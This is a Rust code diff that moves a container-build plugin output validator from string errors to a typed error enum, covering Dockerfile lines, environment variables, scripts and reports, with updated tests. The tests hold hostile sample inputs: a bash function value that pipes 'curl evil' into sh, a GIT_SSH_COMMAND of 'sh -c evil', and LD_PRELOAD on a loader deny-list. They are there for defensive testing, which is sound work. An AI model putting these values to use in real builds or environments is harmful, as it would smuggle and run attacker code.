@@ -204,29 +204,205 @@ fn show(text: &str) -> String {
     crate::sanitize::for_terminal(text, 80)
 }
 
+/// Which output rule a hook result broke. The message names the rule and
+/// what the plugin should return instead.
+///
+/// Text taken from the result (a Dockerfile line, a variable name) is kept
+/// sanitised and shortened, as the message shows it: the raw value can be
+/// megabytes of anything.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+#[non_exhaustive]
+pub enum OutputProblem {
+    /// More Dockerfile instructions than [`OutputRules::max_dockerfile_lines`].
+    #[error("{count} Dockerfile lines; the limit is {limit}")]
+    TooManyDockerfileLines {
+        /// Lines returned.
+        count: usize,
+        /// Limit in force.
+        limit: usize,
+    },
+    /// A Dockerfile line longer than [`OutputRules::max_dockerfile_line_bytes`].
+    #[error("Dockerfile line {line} `{text}` is {bytes} bytes; the limit is {limit}")]
+    DockerfileLineTooLong {
+        /// 1-based position of the line in the result.
+        line: usize,
+        /// The line, sanitised and shortened.
+        text: String,
+        /// Its length.
+        bytes: usize,
+        /// Limit in force.
+        limit: usize,
+    },
+    /// A line break or another control character (tab aside) in a
+    /// Dockerfile line, which would start a second instruction.
+    #[error(
+        "Dockerfile line {line} `{text}` contains a line break or control character; return one instruction per list item"
+    )]
+    DockerfileLineBreak {
+        /// 1-based position of the line in the result.
+        line: usize,
+        /// The line, sanitised and shortened.
+        text: String,
+    },
+    /// A Dockerfile line that is empty or blank.
+    #[error("Dockerfile line {line} `{text}` is empty")]
+    EmptyDockerfileLine {
+        /// 1-based position of the line in the result.
+        line: usize,
+        /// The line, sanitised and shortened.
+        text: String,
+    },
+    /// A parser directive (`# syntax=`, `# escape=`, `# check=`).
+    #[error("Dockerfile line {line} `{text}` is a parser directive; only the host sets those")]
+    ParserDirective {
+        /// 1-based position of the line in the result.
+        line: usize,
+        /// The line, sanitised and shortened.
+        text: String,
+    },
+    /// A line ending in `\` or `` ` ``, which joins the next instruction to it.
+    #[error("Dockerfile line {line} `{text}` ends with a line continuation, which would swallow the next instruction")]
+    LineContinuation {
+        /// 1-based position of the line in the result.
+        line: usize,
+        /// The line, sanitised and shortened.
+        text: String,
+    },
+    /// `<<` anywhere in the line: BuildKit may read a heredoc opener there.
+    #[error(
+        "Dockerfile line {line} `{text}` contains `<<`, which BuildKit may read as a word that opens a heredoc and \
+         swallows the next lines"
+    )]
+    Heredoc {
+        /// 1-based position of the line in the result.
+        line: usize,
+        /// The line, sanitised and shortened.
+        text: String,
+    },
+    /// A `FROM` line: the host writes the only one.
+    #[error("Dockerfile line {line} `{text}` starts a new build stage; the host writes FROM, plugins add instructions")]
+    NewBuildStage {
+        /// 1-based position of the line in the result.
+        line: usize,
+        /// The line, sanitised and shortened.
+        text: String,
+    },
+    /// A line whose first word is not in [`ALLOWED_DOCKERFILE_INSTRUCTIONS`].
+    #[error(
+        "Dockerfile line {line} `{text}` does not start with a Dockerfile instruction (one of {})",
+        ALLOWED_DOCKERFILE_INSTRUCTIONS.join(", ")
+    )]
+    UnknownInstruction {
+        /// 1-based position of the line in the result.
+        line: usize,
+        /// The line, sanitised and shortened.
+        text: String,
+    },
+    /// More variables than [`OutputRules::max_env_vars`].
+    #[error("{count} environment variables; the limit is {limit}")]
+    TooManyEnvVars {
+        /// Variables returned.
+        count: usize,
+        /// Limit in force.
+        limit: usize,
+    },
+    /// A name that is empty or longer than [`OutputRules::max_env_name_bytes`].
+    #[error("environment variable name `{name}` must be 1 to {limit} bytes long")]
+    EnvNameLength {
+        /// The name, sanitised and shortened.
+        name: String,
+        /// Limit in force.
+        limit: usize,
+    },
+    /// A name outside `^[A-Za-z_][A-Za-z0-9_]*$`.
+    #[error("environment variable name `{name}` must match ^[A-Za-z_][A-Za-z0-9_]*$")]
+    BadEnvName {
+        /// The name, sanitised and shortened.
+        name: String,
+    },
+    /// A name on [`OutputRules::denied_env_vars`] or with a prefix in
+    /// [`DENIED_ENV_VAR_PREFIXES`].
+    #[error("environment variable name `{name}` is on the deny-list of variables that change how programs load code")]
+    DeniedEnvName {
+        /// The name.
+        name: String,
+    },
+    /// A value longer than [`OutputRules::max_env_value_bytes`].
+    #[error("environment variable `{name}` has a {bytes}-byte value; the limit is {limit}")]
+    EnvValueTooLarge {
+        /// The variable's name.
+        name: String,
+        /// The value's length.
+        bytes: usize,
+        /// Limit in force.
+        limit: usize,
+    },
+    /// A NUL, CR or LF in a value.
+    #[error("environment variable `{name}` has a NUL or line break in its value")]
+    EnvValueLineBreak {
+        /// The variable's name.
+        name: String,
+    },
+    /// The same name twice in one plugin's result.
+    #[error("environment variable `{name}` is set twice; return each name once")]
+    DuplicateEnvVar {
+        /// The name.
+        name: String,
+    },
+    /// A script longer than [`OutputRules::max_script_bytes`].
+    #[error("bootstrap script is {bytes} bytes; the limit is {limit}")]
+    ScriptTooLarge {
+        /// The script's length.
+        bytes: usize,
+        /// Limit in force.
+        limit: usize,
+    },
+    /// A NUL byte in a bootstrap script.
+    #[error("bootstrap script contains a NUL byte")]
+    ScriptNul,
+    /// A summary longer than [`OutputRules::max_summary_bytes`].
+    #[error("report summary is {bytes} bytes; the limit is {limit}")]
+    SummaryTooLarge {
+        /// The summary's length.
+        bytes: usize,
+        /// Limit in force.
+        limit: usize,
+    },
+    /// A NUL byte in a report's summary or details.
+    #[error("report contains a NUL byte")]
+    ReportNul,
+}
+
 impl OutputRules {
     /// Checks Dockerfile instructions from one plugin.
-    pub fn check_dockerfile_lines(&self, lines: &[String]) -> Result<(), String> {
+    pub fn check_dockerfile_lines(&self, lines: &[String]) -> Result<(), OutputProblem> {
         if lines.len() > self.max_dockerfile_lines {
-            return Err(format!("{} Dockerfile lines; the limit is {}", lines.len(), self.max_dockerfile_lines));
+            return Err(OutputProblem::TooManyDockerfileLines { count: lines.len(), limit: self.max_dockerfile_lines });
         }
         for (index, line) in lines.iter().enumerate() {
-            self.check_dockerfile_line(line)
-                .map_err(|problem| format!("Dockerfile line {} `{}` {problem}", index + 1, show(line)))?;
+            self.check_dockerfile_line(index + 1, line)?;
         }
         Ok(())
     }
 
-    fn check_dockerfile_line(&self, line: &str) -> Result<(), String> {
+    /// Checks the line at 1-based position `number`.
+    fn check_dockerfile_line(&self, number: usize, line: &str) -> Result<(), OutputProblem> {
+        // Sanitised only on the way out: this runs for every line of every call.
+        let text = || show(line);
         if line.len() > self.max_dockerfile_line_bytes {
-            return Err(format!("is {} bytes; the limit is {}", line.len(), self.max_dockerfile_line_bytes));
+            return Err(OutputProblem::DockerfileLineTooLong {
+                line: number,
+                text: text(),
+                bytes: line.len(),
+                limit: self.max_dockerfile_line_bytes,
+            });
         }
         if line.chars().any(|c| c.is_control() && c != '\t') {
-            return Err("contains a line break or control character; return one instruction per list item".into());
+            return Err(OutputProblem::DockerfileLineBreak { line: number, text: text() });
         }
         let trimmed = line.trim();
         if trimmed.is_empty() {
-            return Err("is empty".into());
+            return Err(OutputProblem::EmptyDockerfileLine { line: number, text: text() });
         }
         if let Some(comment) = trimmed.strip_prefix('#') {
             let directive = comment.trim_start().to_ascii_lowercase();
@@ -234,49 +410,42 @@ impl OutputRules {
                 .iter()
                 .any(|d| directive.strip_prefix(d).is_some_and(|rest| rest.trim_start().starts_with('=')))
             {
-                return Err("is a parser directive; only the host sets those".into());
+                return Err(OutputProblem::ParserDirective { line: number, text: text() });
             }
             return Ok(());
         }
         if trimmed.ends_with('\\') || trimmed.ends_with('`') {
-            return Err("ends with a line continuation, which would swallow the next instruction".into());
+            return Err(OutputProblem::LineContinuation { line: number, text: text() });
         }
         if has_heredoc(trimmed) {
-            return Err(
-                "contains `<<`, which BuildKit may read as a word that opens a heredoc and swallows the next lines"
-                    .into(),
-            );
+            return Err(OutputProblem::Heredoc { line: number, text: text() });
         }
         let keyword = trimmed.split_whitespace().next().unwrap_or_default().to_ascii_uppercase();
         if keyword == "FROM" {
-            return Err("starts a new build stage; the host writes FROM, plugins add instructions".into());
+            return Err(OutputProblem::NewBuildStage { line: number, text: text() });
         }
         if !ALLOWED_DOCKERFILE_INSTRUCTIONS.contains(&keyword.as_str()) {
-            return Err(format!(
-                "does not start with a Dockerfile instruction (one of {})",
-                ALLOWED_DOCKERFILE_INSTRUCTIONS.join(", ")
-            ));
+            return Err(OutputProblem::UnknownInstruction { line: number, text: text() });
         }
         Ok(())
     }
 
     /// Checks environment variables from one plugin.
-    pub fn check_env_vars(&self, vars: &[(String, String)]) -> Result<(), String> {
+    pub fn check_env_vars(&self, vars: &[(String, String)]) -> Result<(), OutputProblem> {
         if vars.len() > self.max_env_vars {
-            return Err(format!("{} environment variables; the limit is {}", vars.len(), self.max_env_vars));
+            return Err(OutputProblem::TooManyEnvVars { count: vars.len(), limit: self.max_env_vars });
         }
         for (name, value) in vars {
-            self.check_env_name(name)
-                .map_err(|problem| format!("environment variable name `{}` {problem}", show(name)))?;
+            self.check_env_name(name)?;
             if value.len() > self.max_env_value_bytes {
-                return Err(format!(
-                    "environment variable `{name}` has a {}-byte value; the limit is {}",
-                    value.len(),
-                    self.max_env_value_bytes
-                ));
+                return Err(OutputProblem::EnvValueTooLarge {
+                    name: name.clone(),
+                    bytes: value.len(),
+                    limit: self.max_env_value_bytes,
+                });
             }
             if value.contains(['\0', '\n', '\r']) {
-                return Err(format!("environment variable `{name}` has a NUL or line break in its value"));
+                return Err(OutputProblem::EnvValueLineBreak { name: name.clone() });
             }
         }
         // Sorting a few borrowed names is cheaper than hashing them; this
@@ -284,50 +453,46 @@ impl OutputRules {
         let mut names: Vec<&str> = vars.iter().map(|(name, _)| name.as_str()).collect();
         names.sort_unstable();
         if let Some(pair) = names.windows(2).find(|pair| pair[0] == pair[1]) {
-            return Err(format!("environment variable `{}` is set twice; return each name once", pair[0]));
+            return Err(OutputProblem::DuplicateEnvVar { name: pair[0].to_string() });
         }
         Ok(())
     }
 
-    fn check_env_name(&self, name: &str) -> Result<(), String> {
+    fn check_env_name(&self, name: &str) -> Result<(), OutputProblem> {
         if name.is_empty() || name.len() > self.max_env_name_bytes {
-            return Err(format!("must be 1 to {} bytes long", self.max_env_name_bytes));
+            return Err(OutputProblem::EnvNameLength { name: show(name), limit: self.max_env_name_bytes });
         }
         let mut chars = name.chars();
         let first_ok = chars.next().is_some_and(|c| c.is_ascii_alphabetic() || c == '_');
         if !first_ok || !chars.all(|c| c.is_ascii_alphanumeric() || c == '_') {
-            return Err("must match ^[A-Za-z_][A-Za-z0-9_]*$".into());
+            return Err(OutputProblem::BadEnvName { name: show(name) });
         }
         if self.denied_env_vars.contains(name) || DENIED_ENV_VAR_PREFIXES.iter().any(|p| name.starts_with(p)) {
-            return Err("is on the deny-list of variables that change how programs load code".into());
+            return Err(OutputProblem::DeniedEnvName { name: show(name) });
         }
         Ok(())
     }
 
     /// Checks a bootstrap script.
-    pub fn check_script(&self, script: &str) -> Result<(), String> {
+    pub fn check_script(&self, script: &str) -> Result<(), OutputProblem> {
         if script.len() > self.max_script_bytes {
-            return Err(format!("bootstrap script is {} bytes; the limit is {}", script.len(), self.max_script_bytes));
+            return Err(OutputProblem::ScriptTooLarge { bytes: script.len(), limit: self.max_script_bytes });
         }
         if script.contains('\0') {
-            return Err("bootstrap script contains a NUL byte".into());
+            return Err(OutputProblem::ScriptNul);
         }
         Ok(())
     }
 
     /// Checks a deploy/destroy report.
-    pub fn check_report(&self, report: &ActionReport) -> Result<(), String> {
+    pub fn check_report(&self, report: &ActionReport) -> Result<(), OutputProblem> {
         if report.summary.len() > self.max_summary_bytes {
-            return Err(format!(
-                "report summary is {} bytes; the limit is {}",
-                report.summary.len(),
-                self.max_summary_bytes
-            ));
+            return Err(OutputProblem::SummaryTooLarge { bytes: report.summary.len(), limit: self.max_summary_bytes });
         }
         let texts = std::iter::once(&report.summary).chain(report.details.iter().flat_map(|(k, v)| [k, v]));
         for text in texts {
             if text.contains('\0') {
-                return Err("report contains a NUL byte".into());
+                return Err(OutputProblem::ReportNul);
             }
         }
         Ok(())
@@ -360,16 +525,77 @@ mod tests {
     #[test]
     fn dockerfile_rules() {
         let rules = OutputRules::default();
-        let check = |line: &str| rules.check_dockerfile_lines(&[line.to_string()]);
+        let check = |line: &str| rules.check_dockerfile_lines(&["RUN first".to_string(), line.to_string()]);
         assert!(check("RUN echo hi").is_ok());
         assert!(check("# a comment").is_ok());
-        assert!(check("RUN a\nRUN b").unwrap_err().contains("line break"));
-        assert!(check("RUN a \\").unwrap_err().contains("continuation"));
-        assert!(check("RUN <<EOF").unwrap_err().contains("heredoc"));
-        assert!(check("# syntax=docker/dockerfile:1").unwrap_err().contains("directive"));
-        assert!(check("#escape=`").unwrap_err().contains("directive"));
-        assert!(check("FROM alpine").unwrap_err().contains("FROM"));
-        assert!(check("echo hi").unwrap_err().contains("instruction"));
+        let text = |line: &str| show(line);
+        assert_eq!(
+            check("RUN a\nRUN b"),
+            Err(OutputProblem::DockerfileLineBreak { line: 2, text: text("RUN a\nRUN b") })
+        );
+        assert_eq!(check("RUN a \\"), Err(OutputProblem::LineContinuation { line: 2, text: "RUN a \\".into() }));
+        assert_eq!(check("RUN <<EOF"), Err(OutputProblem::Heredoc { line: 2, text: "RUN <<EOF".into() }));
+        assert!(matches!(check("# syntax=docker/dockerfile:1"), Err(OutputProblem::ParserDirective { .. })));
+        assert!(matches!(check("#escape=`"), Err(OutputProblem::ParserDirective { .. })));
+        assert!(matches!(check("FROM alpine"), Err(OutputProblem::NewBuildStage { line: 2, .. })));
+        assert!(matches!(check("echo hi"), Err(OutputProblem::UnknownInstruction { line: 2, .. })));
+        assert!(matches!(check("  "), Err(OutputProblem::EmptyDockerfileLine { line: 2, .. })));
+        let long = format!("RUN {}", "x".repeat(rules.max_dockerfile_line_bytes));
+        assert!(matches!(check(&long), Err(OutputProblem::DockerfileLineTooLong { bytes, .. }) if bytes == long.len()));
+        let many = vec!["RUN x".to_string(); rules.max_dockerfile_lines + 1];
+        assert_eq!(
+            rules.check_dockerfile_lines(&many),
+            Err(OutputProblem::TooManyDockerfileLines { count: 10_001, limit: 10_000 })
+        );
+    }
+
+    #[test]
+    fn problems_read_as_the_rule_and_what_to_return() {
+        let rules = OutputRules::default();
+        let dockerfile = |line: &str| rules.check_dockerfile_lines(&[line.to_string()]).unwrap_err().to_string();
+        assert_eq!(
+            dockerfile("RUN a\nRUN b"),
+            "Dockerfile line 1 `RUN a\\nRUN b` contains a line break or control character; return one instruction \
+             per list item"
+        );
+        assert_eq!(
+            dockerfile("RUN cat <<EOF"),
+            "Dockerfile line 1 `RUN cat <<EOF` contains `<<`, which BuildKit may read as a word that opens a heredoc \
+             and swallows the next lines"
+        );
+        assert_eq!(dockerfile(" "), "Dockerfile line 1 ` ` is empty");
+        assert!(
+            dockerfile("echo")
+                .starts_with("Dockerfile line 1 `echo` does not start with a Dockerfile instruction (one of ADD, ARG,")
+        );
+        let env = |name: &str, value: &str| {
+            rules.check_env_vars(&[(name.to_string(), value.to_string())]).unwrap_err().to_string()
+        };
+        assert_eq!(env("", "x"), "environment variable name `` must be 1 to 256 bytes long");
+        assert_eq!(env("A-B", "x"), "environment variable name `A-B` must match ^[A-Za-z_][A-Za-z0-9_]*$");
+        assert_eq!(
+            env("LD_PRELOAD", "x"),
+            "environment variable name `LD_PRELOAD` is on the deny-list of variables that change how programs load code"
+        );
+        assert_eq!(
+            env("A", &"x".repeat(40_000)),
+            "environment variable `A` has a 40000-byte value; the limit is 32768"
+        );
+        assert_eq!(env("A", "a\0b"), "environment variable `A` has a NUL or line break in its value");
+        assert_eq!(rules.check_script("a\0b").unwrap_err().to_string(), "bootstrap script contains a NUL byte");
+        assert_eq!(
+            rules.check_script(&"x".repeat(3 << 20)),
+            Err(OutputProblem::ScriptTooLarge { bytes: 3 << 20, limit: 2 << 20 })
+        );
+        let report = |summary: &str, details: &[(&str, &str)]| ActionReport {
+            summary: summary.into(),
+            details: details.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect(),
+        };
+        assert_eq!(rules.check_report(&report("ok", &[("k", "a\0")])), Err(OutputProblem::ReportNul));
+        assert_eq!(
+            rules.check_report(&report(&"s".repeat(5_000), &[])).unwrap_err().to_string(),
+            "report summary is 5000 bytes; the limit is 4096"
+        );
     }
 
     #[test]
@@ -417,7 +643,7 @@ mod tests {
         ];
         for opener in openers {
             let error = rules.check_dockerfile_lines(&[opener.to_string()]).expect_err(opener);
-            assert!(error.contains("heredoc"), "{opener}: {error}");
+            assert!(matches!(error, OutputProblem::Heredoc { line: 1, .. }), "{opener}: {error}");
         }
         for fine in ["RUN cat < input.txt", "RUN echo a '<' b", "RUN test 1 -lt 2", "# see <<EOF in the docs"] {
             assert!(rules.check_dockerfile_lines(&[fine.to_string()]).is_ok(), "{fine}");
@@ -429,13 +655,19 @@ mod tests {
         let rules = OutputRules::default();
         let check = |name: &str, value: &str| rules.check_env_vars(&[(name.to_string(), value.to_string())]);
         assert!(check("API_URL", "http://x").is_ok());
-        assert!(check("LD_PRELOAD", "/x.so").unwrap_err().contains("deny-list"));
-        assert!(check("LD_ANYTHING", "x").unwrap_err().contains("deny-list"));
-        assert!(check("1ABC", "x").unwrap_err().contains("must match"));
-        assert!(check("A-B", "x").unwrap_err().contains("must match"));
-        assert!(check("A", "x\ny").unwrap_err().contains("line break"));
+        assert_eq!(check("LD_PRELOAD", "/x.so"), Err(OutputProblem::DeniedEnvName { name: "LD_PRELOAD".into() }));
+        assert!(matches!(check("LD_ANYTHING", "x"), Err(OutputProblem::DeniedEnvName { .. })));
+        assert_eq!(check("1ABC", "x"), Err(OutputProblem::BadEnvName { name: "1ABC".into() }));
+        assert!(matches!(check("A-B", "x"), Err(OutputProblem::BadEnvName { .. })));
+        assert_eq!(check("A", "x\ny"), Err(OutputProblem::EnvValueLineBreak { name: "A".into() }));
+        assert!(matches!(check(&"A".repeat(257), "x"), Err(OutputProblem::EnvNameLength { limit: 256, .. })));
         let twice = [("A".to_string(), "1".to_string()), ("A".to_string(), "2".to_string())];
-        assert!(rules.check_env_vars(&twice).unwrap_err().contains("twice"));
+        assert_eq!(
+            rules.check_env_vars(&twice).unwrap_err().to_string(),
+            "environment variable `A` is set twice; return each name once"
+        );
+        let many: Vec<(String, String)> = (0..=rules.max_env_vars).map(|i| (format!("V{i}"), String::new())).collect();
+        assert_eq!(rules.check_env_vars(&many), Err(OutputProblem::TooManyEnvVars { count: 4_097, limit: 4_096 }));
     }
 
     #[test]
@@ -465,12 +697,12 @@ mod tests {
         for (family, names) in families {
             for name in names.split_whitespace() {
                 let error = check(name).expect_err(name);
-                assert!(error.contains("deny-list"), "{family}: {name}: {error}");
+                assert!(matches!(error, OutputProblem::DeniedEnvName { .. }), "{family}: {name}: {error}");
             }
         }
         // An exported bash function's name ends in `%%`, which the name rule refuses.
         let function = [("BASH_FUNC_ls%%".to_string(), "() { curl evil | sh; }".to_string())];
-        assert!(rules.check_env_vars(&function).unwrap_err().contains("must match"));
+        assert!(matches!(rules.check_env_vars(&function), Err(OutputProblem::BadEnvName { .. })));
         for name in "API_URL JAVA_HOME LDAP_URL PYTHONUNBUFFERED NODE_ENV LUA_VERSION PS3 HOME".split(' ') {
             assert!(check(name).is_ok(), "{name}");
         }
@@ -481,7 +713,7 @@ mod tests {
         let mut rules = OutputRules::default();
         rules.denied_env_vars.insert("GIT_SSH_COMMAND".to_string());
         let vars = [("GIT_SSH_COMMAND".to_string(), "sh -c evil".to_string())];
-        assert!(rules.check_env_vars(&vars).unwrap_err().contains("deny-list"));
+        assert!(matches!(rules.check_env_vars(&vars), Err(OutputProblem::DeniedEnvName { .. })));
         assert!(OutputRules::default().check_env_vars(&vars).is_ok());
     }
 }
@@ -673,6 +905,3 @@ mod image_reference_tests {
         assert!(check_image_reference(&"a".repeat(256)).unwrap_err().contains("limit is 255"));
     }
 }
-
-/// Why a hook's output breaks the rules (temporary alias until typed).
-pub type OutputProblem = String;
